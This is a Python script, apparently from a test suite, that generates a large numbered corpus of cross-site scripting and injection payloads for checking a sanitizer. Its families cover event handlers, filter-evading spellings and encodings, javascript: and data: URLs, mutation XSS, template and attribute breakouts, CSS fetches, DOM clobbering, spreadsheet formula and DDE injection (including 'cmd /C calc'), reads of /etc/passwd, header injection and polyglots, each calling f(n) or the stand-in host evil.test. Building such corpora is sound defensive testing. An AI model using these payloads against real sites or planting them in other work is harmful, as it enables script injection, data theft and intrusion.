"""Makes payloads.jsonl: strings that run a script, or ask a foreign host, where a page takes them for markup.

    python -m tests.hostile_copy.making

Each calls `f(n)` or asks `evil.test/n`, n being its number. Whole families are made by joining facts
(facts.py) with the shapes in which markup breaks out of where it stands: so there is one for each
tag and handler, and the list can be read as "what was tried". `§` is the call and `¶` the host.
"""

import json
from html import escape
from itertools import chain, cycle, product
from pathlib import Path
from urllib.parse import quote

from tests.hostile_copy import facts

FILE = Path(__file__).with_name("payloads.jsonl")
HOST = "evil.test"


def main():
    FILE.write_text("".join(json.dumps(line, ensure_ascii=True) + "\n" for line in numbered()))


def numbered():
    """[kind, text] of every payload, in order: that of line n says n."""
    return [
        [kind, shape.replace("§", f"f({n})").replace("¶", f"{HOST}/{n}")]
        for n, (kind, shape) in enumerate(shapes())
    ]


def shapes():
    """Every (kind, shape) once, those with neither a call nor a host left out."""
    seen = {}
    for family in FAMILIES:
        for shape in family():
            if "§" in shape or "¶" in shape:
                seen.setdefault(shape, family.__name__)
    return [(kind, shape) for shape, kind in seen.items()]


def handlers():
    """Every handler on what fires it, or on what anybody touches."""
    carriers = {
        "<img src=x on{}=§>": facts.EVENTS,
        "<body on{}=§>": facts.EVENTS,
        "<svg on{}=§>": facts.EVENTS,
        "<x tabindex=1 autofocus style=animation:x on{}='§'>x</x>": facts.EVENTS,
        "<video controls src=x on{}=§><source src=x></video>": facts.EVENTS,
        '<input autofocus on{}="§">': facts.EVENTS,
    }
    for shape, events in carriers.items():
        for event in events:
            yield shape.format(event)


def tags():
    """Every tag of HTML, SVG and MathML, with a handler that fires by itself, and with one of a touch."""
    ways = cycle(
        ["focus", "animationstart", "load", "error", "mouseover", "pointerenter", "focusin", "transitionend"]
    )
    for tag in facts.HTML_TAGS:
        yield f"<{tag} tabindex=0 autofocus on{next(ways)}=§>x</{tag}>"
        yield f'<{tag} src=x href=x data=x style="animation-name:x" on{next(ways)}="§">'
        yield f"<{tag}/on{next(ways)}=§//"
    for outer, names in (("svg", facts.SVG_TAGS), ("math", facts.MATH_TAGS)):
        for tag in names:
            yield f"<{outer}><{tag} tabindex=0 autofocus onfocus=§ onload=§ onbegin=§></{outer}>"
            yield f'<{outer}><{tag} href="javascript:§" xlink:href="javascript:§"><text y=9>x</text></{tag}></{outer}>'


def spellings():
    """One and the same script, written so that filters read it differently."""
    for gap in [
        "/",
        "//",
        "\t",
        "\n",
        "\r",
        "\f",
        "\v",
        "/x/",
        " /",
        "\x00",
        "%09",
        "%0a",
        "%0d",
        "/\t/",
        "\u3000",
    ]:
        yield f"<img{gap}src=x{gap}onerror=§>"
        yield f"<svg{gap}onload=§>"
        yield f"<script{gap}>§</script{gap}>"
        yield f"<{gap}script>§</script>"
        yield f"<img src=x onerror{gap}={gap}§>"
        yield f"<a href={gap}javascript:§>x</a>"
    for word in (
        "script",
        "ScRiPt",
        "SCRIPT",
        "scr<script>ipt",
        "scr\x00ipt",
        "ſcript",
        "scrıpt",
        "sc\u200bript",
        "ｓcript",
    ):
        yield f"<{word}>§</{word}>"
        yield f"<{word} src=//¶></{word}>"
        yield f"<{word} src=data:,§></{word}>"
        yield f"<{word} type=module>§</{word}>"
        yield f"</{word}><{word}>§//"
        yield f"<svg><{word}>§</{word}></svg>"
        yield f"<svg><{word} href=data:,§ /></svg>"
        yield f"<{word}>§"
    for quote_ in ('"', "'", "`", "", "\\", '\\"', "´", "“", "＂"):
        yield f"<img src={quote_}x{quote_} onerror={quote_}§{quote_}>"
        yield f"<img alt={quote_}><script>§</script>{quote_}>"
        yield f"<img {quote_}{quote_}{quote_}><script>§</script>{quote_}>"
    for word, looks in facts.LOOKALIKES.items():
        for look in looks:
            yield "<img src=x onerror=§>".replace(word, look)
            yield "<script>§</script>".replace(word, look)
            yield '<a href="javascript:§">x</a>'.replace(word, look)
    for unseen in facts.UNSEEN:
        yield f"<{unseen}img src=x onerror=§>"
        yield f"<img src=x on{unseen}error=§>"
        yield f"{unseen}<script>§</script>{unseen}"
        yield f'<a href="java{unseen}script:§">x</a>'
    for call in ("window['f'](§)", "top[/f/.source](§)", "[§].find(f)", "(()=>{§})()", "Function`§```", "setTimeout('§')",
                 "eval('§')", "new Function('§')()", "import('data:text/javascript,§')", "self[`f`]`${§}`",
                 "throw onerror=f,§", "location='javascript:§'", "\\u0066(§)", "with(window)§", "f?.(§)", "void§",
                 "Reflect.apply(f,0,[§])", "Array.from([0],()=>§)", "document.write('<script>§<\\/script>')"):  # fmt: skip
        yield f"<img src=x onerror={call!r}>"
        yield f"<script>{call}</script>"
        yield f'<svg><animate onbegin="{escape(call)}" attributeName=x dur=1s>'


def encodings():
    """Escaped once or more, for whoever unescapes once too often."""
    bases = (
        "<script>§</script>",
        "<img src=x onerror=§>",
        "<svg onload=§>",
        '"><script>§</script>',
        "<iframe srcdoc='<script>parent.§</script>'>",
        '<a href="javascript:§">x</a>',
    )
    ways = (
        escape,
        lambda text: escape(escape(text)),
        lambda text: escape(escape(escape(text))),
        lambda text: quote(text, safe="§()"),
        lambda text: quote(quote(text, safe="§()"), safe="§()"),
        lambda text: each(text, "&#{};"),
        lambda text: each(text, "&#{}"),
        lambda text: each(text, "&#0000{};"),
        lambda text: each(text, "&#x{:x};"),
        lambda text: each(text, "&#X000{:X};"),
        lambda text: each(text, "\\u{:04x}"),
        lambda text: each(text, "\\u{{{:x}}}"),
        lambda text: each(text, "\\x{:02x}"),
        lambda text: each(text, "\\{:o}"),
        lambda text: each(text, "\\{:06x} "),
        lambda text: each(text, "%u{:04x}"),
        lambda text: text.replace("<", "&lt").replace(">", "&gt"),
        lambda text: text.replace("<", "&LT;").replace(">", "&GT;"),
        lambda text: text.replace("<", "&nvlt;").replace(">", "&nvgt;"),
        lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
        lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        lambda text: text.replace("<", "&#38;#60;").replace(">", "&#38;#62;"),
        lambda text: text.replace("<", "\ufe64").replace(">", "\ufe65"),
        lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda text: text.replace("<", "<\u0338").replace(">", ">\u0338"),
        lambda text: text.replace("<", "%c0%bc").replace(">", "%c0%be"),
        lambda text: text.replace("<", "%E0%80%BC").replace(">", "%E0%80%BE"),
        lambda text: text.replace("<", "=3C").replace(">", "=3E"),
        lambda text: text[::-1].replace("§", "§") + "\u202e",
        lambda text: "\ufeff" + text,
        lambda text: f"<![CDATA[{text}]]>",
        lambda text: f"]]>{text}<![CDATA[",
        lambda text: f"--><!-- -->{text}<!--",
        *(lambda text, way=way: way.format(text.replace("<", "").replace(">", "")) for way in facts.CHARSETS),
        *(lambda text, way=way: way.format(text) for way in facts.CHARSETS),
    )
    for base, way in product(bases, ways):
        yield way(base)


def each(text, form):
    """The text with every sign but the call in this form."""
    return "".join(sign if sign == "§" else form.format(ord(sign)) for sign in text)


def addresses():
    """Addresses that are scripts, disguised, in all places where a page has an address."""
    named = {":": "&colon;", "\t": "&Tab;", "\n": "&NewLine;", "(": "&lpar;", ")": "&rpar;"}
    disguised = [
        "javascript:§", "JaVaScRiPt:§", "javascript&colon;§", "javascript&#58;§", "javascript&#x3A;§",
        "java&Tab;script:§", "java&NewLine;script:§", "java&#9;script:§", "java\tscript:§", "java\nscript:§",
        "&#106;avascript:§", "&#x6A;avascript:§", "&#0000106avascript:§", "javascript://%0a§", "javascript://x/?%0D%0A§",
        "javascript:/*--></title></style></textarea>*/§", "javascript:'<svg onload=§>'", "javascript:%66(0),§",
        "javascript:void(§)", "\x01javascript:§", "\x1fjavascript:§", " \t\n javascript:§", "javascript\n:§",
        "javascript:&quot;&lt;script&gt;§&lt;/script&gt;&quot;", "vbscript:§", "livescript:§", "mocha:§", "feed:javascript:§",
        "view-source:javascript:§", "jar:javascript:§", "blob:javascript:§", "data:text/html,<script>§</script>",
        "data:text/html;base64,PHNjcmlwdD4=§", "data:text/html;charset=utf-7,+ADw-script+AD4-§", "data:,<script>§</script>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>", "DATA:text/html,<img/src=x onerror=§>",
        "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>", "filesystem:javascript:§",
        "//¶", "https://¶", "http:¶", "\\\\¶", "/\\¶", "https:/¶", "///¶", "\t//¶", "http://user@¶", "ftp://¶", "//¶%E3%80%82x",
        *(f"{blank}javascript:§" for blank in chain(facts.BLANKS, facts.WIDE_BLANKS)),
        *(f"java{blank}script:§" for blank in facts.BLANKS),
        *(f"javascript{named[':']}{sign}§" for sign in named.values()),
    ]  # fmt: skip
    places = (
        '<a href="{}">x</a>', "<a href='{}'>x", '<area href="{}">', '<form action="{}"><button>x</form>',
        '<button formaction="{}">x</button>', '<input type=image formaction="{}">', '<iframe src="{}"></iframe>',
        '<object data="{}"></object>', '<embed src="{}">', '<svg><a href="{}"><text y=9>x</text></a></svg>',
        '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<svg><use href="{}#x"/></svg>',
        '<math href="{}"><mi>x</mi></math>', '<meta http-equiv=refresh content="0;url={}">', '<base href="{}">',
        '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
        '<svg><set attributeName=href to="{}"/></svg>', '<img src="{}">', '<link rel=stylesheet href="{}">',
        '<script src="{}"></script>', '<frameset><frame src="{}"></frameset>', '<body background="{}">', "[x]({})", "{}",
    )  # fmt: skip
    for at, address in enumerate(disguised):
        # All places for the plain ones, and for the others by turns, so that each place meets a third of them.
        yield from (
            place.format(address) for turn, place in enumerate(places) if at < 2 or (turn + at) % 3 == 0
        )


def mutations():
    """Markup that says one thing to the cleaner and another to the browser that reads its result."""
    for root, points in facts.INTEGRATION.items():
        for point, raw in product(points, facts.RAW_TAGS):
            name = point.split()[0]
            yield f'<{root}><{point}><{raw}><a title="</{raw}><img src=x onerror=§>">'
            yield f'<{root}></p><{raw}><a id="</{raw}><img src=1 onerror=§>">'
            yield f'<{root}><{point}><{raw}><!--</{raw}><img title="--&gt;&lt;img src=1 onerror=§&gt;"></{name}>'
    for raw in facts.RAW_TAGS:
        yield f"<{raw}><img src=x onerror=§>"
        yield f"<{raw}></{raw}><img src=x onerror=§>"
        yield f'<{raw}><p title="</{raw}><img src=x onerror=§>">'
        yield f"<{raw}>&lt;/{raw}&gt;&lt;img src=x onerror=§&gt;</{raw}>"
        yield f"</{raw}><svg onload=§>"
        yield f"<svg><{raw}>&lt;img src=x onerror=§&gt;</{raw}></svg>"
        yield f"<math><{raw}>&lt;img src=x onerror=§&gt;</{raw}></math>"
        yield f"<select><{raw}></select><img src=x onerror=§>"
        yield f"<template><{raw}></template></{raw}><img src=x onerror=§>"
        yield f"<form><{raw}></form><form id=x></{raw}><img src=x onerror=§>"
        yield f"<{raw}/><svg/onload=§>"
        yield f"<!--<{raw}>--><img src=x onerror=§>"
    for inner, outer in product(facts.TABLES, ("svg", "math", "select", "form", "a")):
        yield f"<{outer}><table><{inner}><{outer}><img src=x onerror=§>"
        yield f"<table><{inner}><style><{outer}></style><img src=x onerror=§></table>"
    for tag in facts.FORMATTING:
        yield f"<{tag}><p><{tag}><table><{tag}><img src=x onerror=§></table></{tag}>"
        yield f"<p><{tag}><h2><table><h2><{tag} onclick=§ autofocus onfocus=§>"
        yield f"<math><{tag}><mtext><{tag}><style></{tag}><img src=x onerror=§>"
    for depth in (2, 64, 255, 511, 513, 600):
        yield "<div>" * depth + "<svg><style><!--</style><img src=x onerror=§>"
        yield "<b>" * depth + "<script>§</script>"
    form = "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>"
    yield from (
        form,
        form.replace("mtext", "mi"),
        form.replace("mglyph", "malignmark"),
        form.replace("style", "xmp"),
    )
    for end in ("-->", "--!>", "--->", "--!-->", "->", "--\x00>", "]]>", "?>", "%>", "*/", "#}", "%}", "}}", "*/-->", "/enpproperty-->",
                "<!--/enpcontent-->", "-\xad->", "--\u2011>", "\u2010->"):  # fmt: skip
        yield f"{end}<script>§</script>"
        yield f"{end}<img src=x onerror=§>"
        yield f"<!--{end}<svg onload=§>"
        yield f"<!{end}<svg onload=§>"
        yield f"<?x{end}<svg onload=§>"
        yield f"<![CDATA[{end}<svg onload=§>]]>"
    for strange in ("<!DOCTYPE x[<!ENTITY x '<script>§</script>'>]>&x;", "<!DOCTYPE x SYSTEM '//¶'>", "<?xml-stylesheet href='//¶'?>",
                    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
                    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>", "<xsl:value-of select=\"'§'\"/>",
                    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>§</html:script>",
                    "<![CDATA[<]]>script<![CDATA[>]]>§<![CDATA[<]]>/script<![CDATA[>]]>",
                    "<!ENTITY x SYSTEM 'http://¶'>", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://¶'/>"):  # fmt: skip
        yield strange
        yield f"]]>{strange}"
        yield f"]]></description>{strange}<description>"


def breakouts():
    """Out of an attribute, a script, a style sheet, a comment, a JSON text or a template, into a script."""
    for end in (
        '"',
        "'",
        "`",
        "",
        '\\"',
        "\\'",
        "&quot;",
        "&#39;",
        "&#x27;",
        '"/',
        "'/",
        '">',
        "'>",
        "\" '",
        "\n",
        '"\r\n',
    ):
        yield f"{end} onfocus=§ autofocus tabindex=1 x={end}"
        yield f"{end} onmouseover=§ style=position:fixed;inset:0 x={end}"
        yield f"{end} onanimationstart=§ style=animation:x x={end}"
        yield f"{end} x-init=§ x={end}"
        yield f"{end} @click=§ :class=§ x-data=§ x-html=§ {end}"
        yield f"{end} src=//¶ srcset=//¶ {end}"
        yield f"{end}><img src=x onerror=§>"
        yield f"{end}></textarea></title></style></script><svg onload=§>"
        yield f"{end}}}</style><script>§</script>"
    for end in (
        "'",
        '"',
        "`",
        "\\'",
        '\\"',
        "\\\\'",
        "",
        "\u2028",
        "\u2029",
        "\n",
        "\r",
        "');",
        '");',
        "`);",
        "')",
        "'}",
        '"}',
        "'}]",
        "']",
    ):
        yield f"{end};§;//"
        yield f"{end}-§-{end}"
        yield f"{end}+§+{end}"
        yield f"{end},§,{end}"
        yield f"{end}}};§;{{{end}"
        yield f"{end}]}}</script><script>§</script>"
        yield f"{end}*/§/*{end}"
        yield f"{end}?§:{end}"
        yield f"{end}||§||{end}"
    for opening, closing in (("{{", "}}"), ("${", "}"), ("#{", "}"), ("{%", "%}"), ("<%=", "%>"), ("[[", "]]"), ("{{{", "}}}"), ("{!!", "!!}"),
                             ("@(", ")"), ("*{", "}"), ("~{", "}"), ("%{", "}"), ("{#", "#}"), ("$(", ")"), ("`", "`"), ("{", "}")):  # fmt: skip
        yield f"{opening}§{closing}"
        yield f"{opening}constructor.constructor('§')(){closing}"
        yield f"{opening}''.__class__.__mro__[1].__subclasses__()|§{closing}"
        yield f"{opening}$el.ownerDocument.defaultView.§{closing}"
        yield f"{opening}x=valueOf.name.constructor.fromCharCode;§{closing}"
        yield f"{opening} include '//¶' {closing}"
        yield f"{opening} '<script>§</script>'|safe {closing}"
    for name in ("__proto__", "constructor", "toString", "hasOwnProperty", "then", "__reduce__"):
        yield f'{{"{name}":{{"innerHTML":"<img src=x onerror=§>"}}}}'
        yield f'"{name}":"<svg onload=§>",'


def sheets():
    """Styles, that ask or that run."""
    styles = (
        "background:url(//¶)", "background:url('javascript:§')", "background-image:image-set('//¶' 1x)", "list-style:url(//¶)",
        "content:url(//¶)", "cursor:url(//¶),auto", "border-image:url(//¶) 1", "mask:url(//¶)", "-webkit-mask:url(//¶)",
        "filter:url(//¶#x)", "clip-path:url(//¶#x)", "shape-outside:url(//¶)", "offset-path:url(//¶#x)", "behavior:url(//¶)",
        "-moz-binding:url(//¶#x)", "width:expression(§)", "wi/**/dth:exp/**/ression(§)", "w\\69 dth:e\\78pression(§)",
        "xss:expr/*x*/ession(§)", "b\\61ckground:u\\72l(//¶)", "background:\\75\\72\\6c('//¶')", "--x:url(//¶);background:var(--x)",
        "src:url(//¶)", "animation:x;position:fixed;inset:0;z-index:9999;content:'§'", "background:url(data:text/html,<script>§</script>)",
        "color:red;}</style><script>§</script>", "background:cross-fade(url(//¶),url(//¶),50%)", "background:-webkit-image-set(url(//¶) 1x)",
        "font-family:'</style><img src=x onerror=§>'", "@import'//¶'",
    )  # fmt: skip
    places = (
        '<p style="{}">x</p>', "<div style='{}'>x", "<style>*{{{}}}</style>", "<style>@font-face{{font-family:x;{}}}*{{font-family:x}}</style>",
        "<svg><style>*{{{}}}</style></svg>", "<style>@keyframes x{{from{{{}}}}}*{{animation:x 1s}}</style>", '<table style="{}"><td>x', '" style="{}',
    )  # fmt: skip
    for style, place in product(styles, places):
        yield place.format(style)
    for rule in ("@import '//¶';", "@import url(//¶);", "@namespace x url(//¶);", "@charset 'utf-7';@import'//¶';", "<!--@import'//¶'-->",
                 "@\\69mport'//¶';", "input[value^=a]{background:url(//¶)}", "a:visited{background:url(//¶)}", "{}*{background:url(//¶)}"):  # fmt: skip
        yield f"<style>{rule}</style>"
        yield f'<link rel=stylesheet href="data:text/css,{rule}">'
        yield f"</style><style>{rule}"


def asking():
    """What asks a foreign host as soon as it is shown, or once it is touched."""
    elements = (
        "<img src={}>", "<img srcset='{} 2x'>", "<picture><source srcset={}><img></picture>", "<video poster={}>", "<video src={}>",
        "<audio src={}>", "<video><source src={}></video>", "<video><track default src={}></video>", "<iframe src={}>", "<frame src={}>",
        "<embed src={}>", "<object data={}>", "<object><param name=movie value={}></object>", "<applet codebase={}>", "<script src={}></script>",
        "<script type=module src={}></script>", "<link rel=preload as=image href={}>", "<link rel=prefetch href={}>", "<link rel=dns-prefetch href={}>",
        "<link rel=preconnect href={}>", "<link rel=icon href={}>", "<link rel=manifest href={}>", "<link rel=import href={}>", "<link rel=modulepreload href={}>",
        "<link rel=prerender href={}>", "<link rel=stylesheet href={}>", "<input type=image src={}>", "<body background={}>", "<table background={}>",
        "<td background={}>", "<img lowsrc={}>", "<img dynsrc={}>", "<bgsound src={}>", "<html manifest={}>", "<base href={}>", "<a ping={} href=#>x</a>",
        "<meta http-equiv=refresh content=0;url={}>", "<form action={}><input autofocus>", "<svg><image href={}>", "<svg><image xlink:href={}>",
        "<svg><use href={}#x>", "<svg><feImage href={}>", "<svg><script href={}>", "<svg><foreignObject><img src={}>", "<svg><font-face-uri href={}>",
        "<svg><cursor href={}>", "<math><mglyph src={}>", "<portal src={}>", "<fencedframe src={}>", "<img longdesc={} src={}>", "<blockquote cite={}>x",
        "<menuitem icon={}>", "<isindex action={}>", "<layer src={}>", "<xml src={}>", "<iframe srcdoc='<img src={}>'>", "<head profile={}>", "<marquee src={}>",
        "![x]({})", "[img]{}[/img]", "url({})",
    )  # fmt: skip
    for turn, element in enumerate(elements):
        forms = ("//¶", "https://¶", "http://¶?a=b&c", "\\\\¶", "'/\\¶'", '"\n//¶"', "&#47;&#47;¶", "https:¶")
        yield from (
            element.format(*[form] * element.count("{}"))
            for at, form in enumerate(forms)
            if at < 3 or (turn + at) % 3 == 0
        )


def clobbering():
    """Elements that stand before the page's own names, with a script of their own beside."""
    for name in facts.CLOBBERED:
        yield f"<img name={name} src=x onerror=§>"
        yield f"<form id={name}><input name={name} autofocus onfocus=§></form>"
        yield f'<a id={name}><a id={name} name=f href="javascript:§">x</a>'


def files():
    """For what is no page: spreadsheets, typesetting, mail, XML, logs, addresses of files."""
    formulas = ('HYPERLINK("http://¶","x")', "cmd|' /C calc'!A§", 'WEBSERVICE("http://¶")', 'IMPORTXML("http://¶","//a")', "1+1+§", "SUM(1)*§",
                'DDE("cmd";"/C §")', "rundll32|'URL.dll,OpenURL ¶'!A", 'IMAGE("http://¶")')  # fmt: skip
    for start, formula in product(
        (
            "=",
            "+",
            "-",
            "@",
            "\t=",
            "\r=",
            "\n=",
            "＝",
            "＋",
            "－",
            "＠",
            '"=',
            ";=",
            ",=",
            " =",
            "'=",
            "\ufeff=",
        ),
        formulas,
    ):
        yield start + formula
    for typst in ('#read("/etc/passwd")', '#image("/etc/passwd")', "#import sys: *", '#include "/etc/passwd"', '#eval("§")', '#link("http://¶")[x]',
                  "#panic()", "#sys.inputs", "#set page(width: 1pt)", "#while true {}", "#raw(read(\"page.typ\"))", "$ integral $ #f", "#pdf.embed(\"page.typ\")",
                  "#context here()", "= Heading", "#let f = 1", "\\u{23}eval(\"1\")", "*bold* _it_ `raw` @ref <label>", "/* comment", "// comment", "```", "[#f]", "](#f)"):  # fmt: skip
        yield f"{typst} §"
        yield f"] {typst} [ §"
        yield f'"}}; {typst} §'
    for header in (
        "Bcc: x@¶",
        "Subject: §",
        "Content-Type: text/html",
        "Set-Cookie: a=§",
        "Location: //¶",
        "Content-Disposition: inline",
    ):
        yield from (
            f"x{end}{header}{end}{end}<script>§</script>"
            for end in ("\r\n", "\n", "%0d%0a", "\u2028", "\x85", "\r")
        )
    for path in (
        "../../../etc/passwd",
        "..\\..\\x",
        "/etc/passwd\x00.jpg",
        "x.html",
        "x.svg",
        "CON",
        "‮gpj.exe",
    ):
        yield f"{path}<svg onload=§>"
        yield f'{path}";filename="x.html";x=§'


def polyglots():
    """Several shapes in one, so that it breaks out of whichever place it comes to."""
    starts = (
        "javascript:/*",
        "--></title></style></textarea></script></xmp>",
        "'\"`>",
        "]]>*/",
        "{{'x'}}",
        "\\';",
        "%0a*/",
        "</template></noscript>",
    )
    middles = ("<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+§//'>", "<img src=x onerror=§//'\"`>", "<script>§</script>", "/*/onfocus=§ autofocus//",
               "-->*/§//", "<details open ontoggle=§>", "<iframe srcdoc=\"<script>parent.§</script>\">", "\" onload=§ '")  # fmt: skip
    ends = ("", "<!--", "/*`'\"", "\u2028", "</script>", "{{")
    for parts in product(starts, middles, ends):
        yield "".join(parts)


FAMILIES = (
    handlers,
    tags,
    spellings,
    encodings,
    addresses,
    mutations,
    breakouts,
    sheets,
    asking,
    clobbering,
    files,
    polyglots,
)

if __name__ == "__main__":
    main()
